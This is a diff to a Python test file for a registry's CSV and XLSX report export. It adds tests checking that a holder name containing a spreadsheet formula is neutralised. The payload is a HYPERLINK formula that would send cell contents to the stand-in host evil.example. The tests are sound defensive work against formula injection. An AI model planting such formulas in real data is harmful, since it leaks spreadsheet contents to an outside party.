@@ -17,7 +17,7 @@ from registry.reports import make_monthly, overdue
 from registry.settings import Settings
 from tests.api.conftest import SUSPENSION, Api, detached_verifies
 from tests.conftest import Clock
-from tests.examples import issue_request
+from tests.examples import HOLDER, issue_request
 
 TODAY = {"from": "2026-11-25", "to": "2026-11-25"}
 
@@ -62,6 +62,29 @@ def test_xlsx_report_opens_with_openpyxl(api: Api) -> None:
     assert values[0][:3] == ["序号", "证书编号", "注册号"]
     assert [row[6] for row in values[1:]] == ["颁证", "撤销"]
     assert detached_verifies(api, signature, body)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_a_holder_name_starting_a_formula_is_neutralised_in_the_csv_report(api: Api) -> None:
+    api.issue(holder=HOLDER | {"name": FORMULA})
+
+    body, _ = report(api, "csv")
+
+    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+    assert rows[0]["获证组织"] == "'" + FORMULA
+
+
+def test_a_holder_name_starting_a_formula_is_a_string_in_the_xlsx_report(api: Api) -> None:
+    api.issue(holder=HOLDER | {"name": FORMULA})
+
+    body, _ = report(api, "xlsx")
+
+    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
+    assert sheet is not None
+    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
+    assert sheet["D2"].value == FORMULA
 
 
 def test_json_report_lists_the_period(api: Api) -> None:
